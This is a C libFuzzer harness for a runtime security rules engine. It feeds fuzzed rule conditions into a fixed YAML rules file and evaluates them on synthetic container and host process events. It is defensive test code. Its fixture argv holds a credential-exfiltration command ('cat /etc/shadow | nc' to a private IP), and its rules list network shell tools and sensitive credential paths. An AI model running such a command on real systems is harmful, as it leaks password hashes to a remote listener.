/*
 * libFuzzer target: the condition parser, compiler and evaluator. The input
 * becomes the condition of one rule inside a fixed rules file that defines
 * a few lists and macros (plain, nested, with numbers and paths), written as
 * a YAML literal block scalar with an explicit indentation, so the bytes
 * reach the condition parser unchanged (YAML only normalises line breaks; the
 * few characters YAML cannot carry at all are replaced by '?'). A condition
 * that compiles is evaluated on three synthetic events: an exec in a
 * container with a parent chain, a fork on the host and an exit.
 */
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "container/container.h"
#include "proc/proc.h"
#include "../unit/proc_fixture.h"
#include "alert/alert.h"
#include "rules/rules.h"

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size);

static const char head[] =
	"- required_engine_version: 0.31.0\n"
	"- list: shell_binaries\n"
	"  items: [ash, bash, csh, ksh, sh, tcsh, zsh, dash]\n"
	"- list: shell_mgmt\n"
	"  items: [shell_binaries, nc, \"ncat\", 'socat']\n"
	"- list: sensitive_paths\n"
	"  items: [/etc/shadow, /etc/sudoers, \"/root/.ssh\", /var/lib/*/keys]\n"
	"- list: known_uids\n"
	"  items: [0, 33, 1000]\n"
	"- list: empty_list\n"
	"  items: []\n"
	"- macro: spawned_process\n"
	"  condition: (evt.type in (execve, execveat) and evt.dir=<)\n"
	"- macro: container\n"
	"  condition: (container.id != host)\n"
	"- macro: shell_procs\n"
	"  condition: proc.name in (shell_binaries)\n"
	"- macro: interactive\n"
	"  condition: spawned_process and proc.tty != 0 and shell_procs\n"
	"- macro: never_true\n"
	"  condition: (evt.num=0)\n"
	"- macro: user_known_thing\n"
	"  condition: (never_true)\n"
	"- rule: fuzzed\n"
	"  desc: the condition under test\n"
	"  priority: WARNING\n"
	"  tags: [fuzz, T1059]\n"
	"  output: >\n"
	"    %proc.name %proc.cmdline %proc.aname[2] %proc.pname %user.name\n"
	"    %container.id %container.image.repository %evt.type %evt.arg.flags\n"
	/* |2-: content indented exactly 2 past the mapping (column 5), no
	 * trailing newline; further leading blanks are content. */
	"  condition: |2-\n";
#define INDENT "    "

/* One synthetic event and the process chain it sees. */
static struct {
	struct ev_header hdr;
	struct event ev;
	struct proc_entry self, parent, gparent;
	char self_exe[64], parent_exe[64], gparent_exe[64], cwd[64];
	char args[64];
	struct container_info ci;
	char ci_name[32], ci_image[64], ci_image_id[80], ci_empty[1];
} F;

static const struct proc_entry *chain(const struct event *ev, const struct proc_entry *p,
				      unsigned n)
{
	(void)ev;
	(void)p;
	return fixture_ancestor(&F.parent, &F.gparent, n);
}

static void set_proc(struct proc_entry *p, uint32_t pid, uint32_t ppid, const char *comm,
		     char *exe_buf, const char *exe)
{
	fixture_proc(p, pid, ppid, comm, exe_buf, 64, exe, F.cwd);
	p->args = F.args;
}

/* kind: EV_EXEC in a container, or EV_FORK / EV_EXIT on the host. */
static const struct event *make_event(enum ev_kind kind)
{
	static const char argv[] = "bash\0-c\0cat /etc/shadow | nc 10.0.0.1 4444";

	memset(&F, 0, sizeof(F));
	snprintf(F.cwd, sizeof(F.cwd), "/root");
	memcpy(F.args, argv, sizeof(argv));
	set_proc(&F.self, 300, 200, "bash", F.self_exe, "/bin/bash");
	set_proc(&F.parent, 200, 100, "nginx", F.parent_exe, "/usr/sbin/nginx");
	set_proc(&F.gparent, 100, 1, "runc:[1:CHILD]", F.gparent_exe, "/usr/bin/runc");
	F.self.args_len = sizeof(argv);
	F.self.argc = 3;
	F.self.uid = F.self.euid = kind == EV_EXEC ? 0 : 33;
	F.self.tty = kind == EV_EXEC ? 34816 : 0;
	F.hdr.kind = kind;
	F.hdr.ts_ns = 5000000000ull;
	F.hdr.pid = F.hdr.tid = F.self.pid;
	F.hdr.ppid = F.self.ppid;
	F.hdr.uid = F.self.uid;
	F.hdr.tty = F.self.tty;
	memcpy(F.hdr.comm, F.self.comm, sizeof(F.hdr.comm));
	F.ev.hdr = &F.hdr;
	F.ev.kind = kind;
	snprintf(F.ev.exe, sizeof(F.ev.exe), "%s", F.self.exe);
	snprintf(F.ev.cwd, sizeof(F.ev.cwd), "%s", F.cwd);
	F.ev.args = F.args;
	F.ev.args_len = F.self.args_len;
	F.ev.argc = F.self.argc;
	F.ev.proc = &F.self;
	if (kind == EV_FORK) {
		F.ev.clone_flags = 0x11;
		F.ev.parent_tid = 200;
	}
	if (kind == EV_EXIT) {
		F.self.exited = true;
		F.ev.exit_code = 256;
	}
	if (kind == EV_EXEC) {
		snprintf(F.ci.id, sizeof(F.ci.id), "%s",
			 "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcdef");
		F.ci.runtime = RUNTIME_DOCKER;
		F.ci.has_metadata = true;
		snprintf(F.ci_name, sizeof(F.ci_name), "web-1");
		snprintf(F.ci_image, sizeof(F.ci_image), "registry:5000/team/app:v2");
		snprintf(F.ci_image_id, sizeof(F.ci_image_id), "sha256:0123abcd");
		F.ci.name = F.ci_name;
		F.ci.image = F.ci_image;
		F.ci.image_id = F.ci_image_id;
		F.ev.container = &F.ci;
		F.ev.container_key = 4242;
	}
	return &F.ev;
}

static int on_alert(const struct rules_alert *a, void *ctx)
{
	struct alert *al = alert_from_rules(a);
	char *json = al ? alert_to_json(al) : NULL;

	(void)ctx;
	free(json);
	alert_free(al);
	return 0;
}

/* Length of the UTF-8 character at s[0..n) YAML accepts, or 0. */
static size_t yaml_char_len(const uint8_t *s, size_t n)
{
	uint32_t c;
	size_t len;

	if (s[0] < 0x80)
		return (s[0] >= 0x20 && s[0] != 0x7f) || s[0] == '\t' ? 1 : 0;
	if (s[0] >= 0xc2 && s[0] <= 0xdf)
		len = 2, c = s[0] & 0x1f;
	else if (s[0] >= 0xe0 && s[0] <= 0xef)
		len = 3, c = s[0] & 0x0f;
	else if (s[0] >= 0xf0 && s[0] <= 0xf4)
		len = 4, c = s[0] & 0x07;
	else
		return 0;
	if (len > n)
		return 0;
	for (size_t k = 1; k < len; k++) {
		if ((s[k] & 0xc0) != 0x80)
			return 0;
		c = c << 6 | (s[k] & 0x3f);
	}
	if ((len == 3 && c < 0x800) || (len == 4 && (c < 0x10000 || c > 0x10ffff)))
		return 0; /* overlong or out of range */
	if ((c >= 0x80 && c < 0xa0 && c != 0x85) || (c >= 0xd800 && c <= 0xdfff) ||
	    c == 0xfffe || c == 0xffff)
		return 0; /* C1 controls, surrogates, non-characters */
	return len;
}

/* YAML line breaks besides \n and \r: NEL, LINE and PARAGRAPH SEPARATOR. */
static bool is_unicode_break(const uint8_t *s, size_t len)
{
	return (len == 2 && s[0] == 0xc2 && s[1] == 0x85) ||
	       (len == 3 && s[0] == 0xe2 && s[1] == 0x80 && (s[2] == 0xa8 || s[2] == 0xa9));
}

int LLVMFuzzerTestOneInput(const uint8_t *data, size_t size)
{
	static const enum ev_kind kinds[] = { EV_EXEC, EV_FORK, EV_EXIT };
	struct rules_config cfg;
	struct rules_engine *e = NULL;
	size_t cap, n = 0;
	char *text;

	if (size > 8192)
		return 0;
	/* Worst case: every byte a line break followed by the indentation. */
	cap = sizeof(head) + sizeof(INDENT) + size * (sizeof(INDENT) + 1) + 2;
	text = malloc(cap);
	if (!text)
		return 0;
	memcpy(text, head, sizeof(head) - 1);
	n = sizeof(head) - 1;
	memcpy(text + n, INDENT, sizeof(INDENT) - 1);
	n += sizeof(INDENT) - 1;
	for (size_t i = 0; i < size;) {
		size_t len;

		if (data[i] == '\n' || data[i] == '\r') {
			len = data[i] == '\r' && i + 1 < size && data[i + 1] == '\n' ? 2 : 1;
			memcpy(text + n, data + i, len);
			n += len;
			memcpy(text + n, INDENT, sizeof(INDENT) - 1);
			n += sizeof(INDENT) - 1;
			i += len;
			continue;
		}
		len = yaml_char_len(data + i, size - i);
		if (!len) {
			text[n++] = '?';
			i++;
			continue;
		}
		memcpy(text + n, data + i, len);
		n += len;
		if (is_unicode_break(data + i, len)) {
			memcpy(text + n, INDENT, sizeof(INDENT) - 1);
			n += sizeof(INDENT) - 1;
		}
		i += len;
	}
	text[n++] = '\n';

	rules_config_default(&cfg);
	cfg.hostname = "fuzz";
	cfg.boot_to_realtime_ns = 1700000000000000000ll;
	cfg.ancestor = chain;
	/* PALISADE_FUZZ_VERBOSE=1: print the diagnostics (reproducing a case). */
	cfg.diag_out = getenv("PALISADE_FUZZ_VERBOSE") ? stderr : NULL;
	if (rules_engine_new(&cfg, &e) == 0) {
		if (rules_engine_add_buffer(e, "fuzz.yaml", text, n) == 0 &&
		    rules_engine_compile(e) == 0) {
			for (size_t k = 0; k < sizeof(kinds) / sizeof(kinds[0]); k++)
				rules_eval(e, make_event(kinds[k]), on_alert, NULL);
		}
		rules_engine_free(e);
	}
	free(text);
	return 0;
}
